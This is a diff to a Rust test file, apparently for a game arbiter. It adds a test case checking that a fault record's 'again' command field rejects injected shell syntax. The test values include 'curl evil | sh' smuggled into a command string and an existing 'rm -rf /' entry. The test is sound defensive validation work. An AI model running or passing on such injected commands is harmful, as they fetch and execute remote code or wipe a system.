@@ -130,6 +130,11 @@ fn a_fault_that_cannot_have_been_is_found() {
                 "the command is 'arbiter again REPORT --game-number 1 --seat 1'",
             ),
             ("/games/0/ending/fault/again", json!("rm -rf /"), "the command is"),
+            (
+                "/games/0/ending/fault/again",
+                json!("arbiter again x; curl evil | sh; echo --game-number 1 --seat 1"),
+                "the command is",
+            ),
             ("/games/0/ending/fault/signal", json!(99), "there is no signal 99"),
             ("/games/0/ending/fault/signal", json!(6), "signal 6"),
             ("/games/0/ending/fault/during", json!("game_over"), "is not seen in a turn"),
